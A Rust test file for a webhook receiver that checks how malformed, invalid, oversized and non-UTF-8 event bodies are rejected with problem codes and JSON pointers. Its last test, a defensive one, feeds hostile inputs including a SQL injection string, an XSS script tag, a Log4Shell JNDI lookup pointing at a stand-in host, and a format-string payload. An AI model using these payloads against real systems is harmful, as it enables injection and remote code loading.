//! What is refused of a delivery that is believed, and how it is told.

use serde_json::json;

use crate::desk::{Desk, an_hour, pointers, problem};

#[tokio::test]
async fn g42_a_body_that_is_no_event_is_400_with_its_place() {
    let desk = Desk::new().await;
    let before = desk.kept().await;
    for (body, place) in [
        ("", ""),
        ("{", ""),
        ("null", ""),
        ("[]", ""),
        ("\u{feff}{}", ""),
        ("{}", ""),
        (r#"{"type": "user.updated", "timestamp": "2026-11-22T12:00:00Z"}"#, ""),
        (r#"{"type": 1, "timestamp": "2026-11-22T12:00:00Z", "data": {"id": "u-1"}}"#, "/type"),
        (r#"{"type": "user.updated", "timestamp": 1, "data": {"id": "u-1"}}"#, "/timestamp"),
        (&user("{}"), "/data/id"),
        (&user("null"), "/data"),
        (&user("[]"), "/data"),
        (&user(r#"{"id": 7, "name": "Ann"}"#), "/data/id"),
        (&user(r#"{"id": "u-1", "name": 7}"#), "/data/name"),
        (&user(r#"{"id": "u-1", "name": "Ann", "nickname": "A"}"#), "/data/nickname"),
        (&user(r#"{"id": "u-1", "name": "Ann"}} {"#), ""),
        (&user(r#"{"id": "u-1", "name": "Ann"}, "extra": 1"#), "/extra"),
    ] {
        let answer = desk.send(&desk.delivery("msg_1", body)).await;
        assert_eq!(problem(&answer), (400, "malformed".into()), "{body}");
        assert_eq!(pointers(&answer), [place], "{body}");
    }
    assert_eq!(desk.kept().await, before);
    let good = user(r#"{"id": "u-1", "name": "Ann"}"#);
    assert_eq!(desk.send(&desk.delivery("msg_1", good)).await.status(), 202);
}

#[tokio::test]
async fn g42_every_broken_rule_is_told_at_once_with_its_place() {
    let desk = Desk::new().await;
    let before = desk.kept().await;
    let contact = json!({"id": "c 1", "kind": "club", "name": " ", "emails": ["a@b.example", "x"],
        "addresses": [{"label": "other"}], "organisations": [{"id": ""}], "version": -1});
    for (kind, data, all) in [
        (
            "time_entry.updated",
            json!({"id": "e-1", "task_id": "t 1", "date": "22/11/2026", "seconds": 86_401,
                "note": "x".repeat(10_001), "version": 1.5}),
            &[
                "/data/date",
                "/data/note",
                "/data/seconds",
                "/data/task_id",
                "/data/user_id",
                "/data/version",
            ][..],
        ),
        (
            "task.updated",
            json!({"id": "t-1", "name": "", "kind": "job", "start_date": "x", "process_id": ""}),
            &["/data/kind", "/data/name", "/data/process_id", "/data/start_date"],
        ),
        (
            "process.updated",
            json!({"id": "p-1", "xpm_task_uuid": "xyz"}),
            &["/data/name", "/data/xpm_task_uuid"],
        ),
        (
            "user.updated",
            json!({"id": "u 1", "version": "1".len() as f64 / 2.0}),
            &["/data/id", "/data/version"],
        ),
        (
            "contact.updated",
            contact,
            &[
                "/data/addresses/0/label",
                "/data/id",
                "/data/kind",
                "/data/organisations/0/id",
                "/data/version",
            ],
        ),
        ("contact.deleted", json!({"id": "c 1", "version": -1}), &["/data/id", "/data/version"]),
        ("task.deleted", json!({"id": "", "version": "1"}), &["/data/id", "/data/version"]),
        ("time_entry.deleted", json!({"id": "é", "version": 0.5}), &["/data/id", "/data/version"]),
    ] {
        let mut event = json!({"type": kind, "timestamp": "2026-11-22T12:00:00Z", "data": data});
        let answer = desk.say("msg_1", &event).await;
        assert_eq!(problem(&answer), (422, "invalid".into()), "{kind}");
        assert_eq!(sorted(pointers(&answer)), all, "{kind}");
        // And the envelope's own fault with them.
        event["timestamp"] = "yesterday".into();
        let mut with_envelope: Vec<&str> = all.to_vec();
        with_envelope.push("/timestamp");
        let answer = desk.say("msg_1", &event).await;
        assert_eq!(sorted(pointers(&answer)), with_envelope, "{kind}");
    }
    assert_eq!(desk.kept().await, before);
}

#[tokio::test]
async fn g42_a_deletion_counts_versions_as_every_other_event_does() {
    let desk = Desk::new().await;
    for kind in ["contact.deleted", "task.deleted", "time_entry.deleted", "user.updated"] {
        for (version, status) in [
            (json!(null), 202),
            (json!(0), 202),
            (json!(9_007_199_254_740_991_u64), 202),
            (json!(9_007_199_254_740_992_u64), 422),
            (json!(u64::MAX), 422),
        ] {
            let data = match kind {
                "user.updated" => json!({"id": "x-1", "name": "Ann", "version": version}),
                _ => json!({"id": "x-1", "version": version}),
            };
            let event = json!({"type": kind, "timestamp": "2026-11-22T12:00:00Z", "data": data});
            let answer = desk.say(&format!("{kind}-{version}").replace('.', "-"), &event).await;
            assert_eq!(answer.status(), status, "{kind} {version}");
        }
    }
}

#[tokio::test]
async fn g42_an_event_of_an_unknown_type_is_422() {
    let desk = Desk::new().await;
    let before = desk.kept().await;
    let unknown = ["", "invoice.updated", "time_entry.created", "process.deleted", "TASK.updated"];
    for kind in unknown {
        let mut event = an_hour("e-1", 1);
        event["type"] = kind.into();
        let answer = desk.say("msg_1", &event).await;
        assert_eq!(problem(&answer), (422, "invalid".into()), "{kind}");
        assert_eq!(pointers(&answer), ["/type"], "{kind}");
    }
    assert_eq!(desk.kept().await, before);
}

#[tokio::test]
async fn g42_an_instant_that_is_none_is_422() {
    let desk = Desk::new().await;
    let before = desk.kept().await;
    for timestamp in ["", "2026-11-22", "2026-11-22T12:00:00", "2026-02-30T12:00:00Z", "1795348800"]
    {
        let mut event = an_hour("e-1", 1);
        event["timestamp"] = timestamp.into();
        let answer = desk.say("msg_1", &event).await;
        assert_eq!(problem(&answer), (422, "invalid".into()), "{timestamp}");
        assert_eq!(pointers(&answer), ["/timestamp"], "{timestamp}");
    }
    assert_eq!(desk.kept().await, before);
}

/// G42: 256 KiB, and not one byte more; what is too long is not even verified.
#[tokio::test]
async fn g42_a_body_of_256_kib_is_taken_and_a_longer_one_is_413() {
    let desk = Desk::new().await;
    let before = desk.kept().await;
    let padded = |length: usize| {
        let mut body = an_hour("e-1", 1).to_string().into_bytes();
        body.resize(length, b' ');
        body
    };
    let long = desk.delivery("msg_1", padded(262_145));
    for request in [long.request(), long.in_base64()] {
        assert_eq!(problem(&desk.request(request).await), (413, "too_large".into()));
    }
    assert_eq!(desk.kept().await, before);
    let longest = desk.delivery("msg_1", padded(262_144));
    assert_eq!(desk.request(longest.in_base64()).await.status(), 202);
}

#[tokio::test]
async fn g42_a_body_that_is_no_utf_8_is_400_once_it_is_believed() {
    let desk = Desk::new().await;
    let before = desk.kept().await;
    let mut body = an_hour("e-1", 1).to_string().into_bytes();
    let note = body.windows(4).position(|it| it == b"bank").unwrap();
    body[note] = 0xff;
    let good = desk.delivery("msg_1", body);
    assert_eq!(problem(&desk.send(&good).await), (400, "malformed".into()));
    let mut unsigned = good;
    unsigned.body[note] = 0xfe;
    assert_eq!(desk.send(&unsigned).await.status(), 401);
    assert_eq!(desk.kept().await, before);
}

/// After JSONTestSuite and the Big List of Naughty Strings: any answer but 5xx, and soon.
#[tokio::test]
async fn g42_hostile_bodies_are_refused_as_malformed_or_taken_as_text() {
    let desk = Desk::new().await;
    for body in [
        "[".repeat(100_000),
        "{\"a\":".repeat(50_000),
        user(&format!(r#"{{"id": "u-1", "name": {}"#, "[".repeat(100_000))),
        user(r#"{"id": "u-1", "id": "u-2", "name": "Ann"}"#),
        user(r#"{"id": "u-1", "name": "\ud800"}"#),
        user(r#"{"id": "u-1", "name": "Ann", "version": 1e400}"#),
        user(r#"{"id": "u-1", "name": "Ann",}"#),
        user(r#"{"id": "u-1", 'name': "Ann"}"#),
        user(r#"{"id": "u-1", "name": NaN}"#),
        user("{\"id\": \"u-1\", \"name\": \"A\u{0}\"}"),
    ] {
        let answer = desk.send(&desk.delivery("msg_1", body.clone())).await;
        let start: String = body.chars().take(80).collect();
        // A key that comes twice is read as one or refused; it is no fault of ours either way.
        assert!([202, 400, 422].contains(&answer.status().as_u16()), "{start}");
        assert!(answer.body().len() < 2_000, "{start}");
    }
    for (n, name) in [
        "NULL",
        "'; DROP TABLE users; --",
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "%s%n",
        "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤",
        "\u{202e}gnp.exe",
        "👩‍👩‍👧‍👦🇦🇺",
        "\u{feff}Ann",
    ]
    .into_iter()
    .enumerate()
    {
        let data = json!({"id": format!("u-{n}"), "name": name});
        let event = json!({"type": "user.updated", "timestamp": "2026-11-22T12:00:00Z",
            "data": data});
        let answer = desk.say(&format!("naughty_{n}"), &event).await;
        assert!([202, 422].contains(&answer.status().as_u16()), "{name:?}");
    }
}

fn user(data: &str) -> String {
    format!(r#"{{"type": "user.updated", "timestamp": "2026-11-22T12:00:00Z", "data": {data}}}"#)
}

fn sorted(mut pointers: Vec<String>) -> Vec<String> {
    pointers.sort();
    pointers.dedup();
    pointers
}
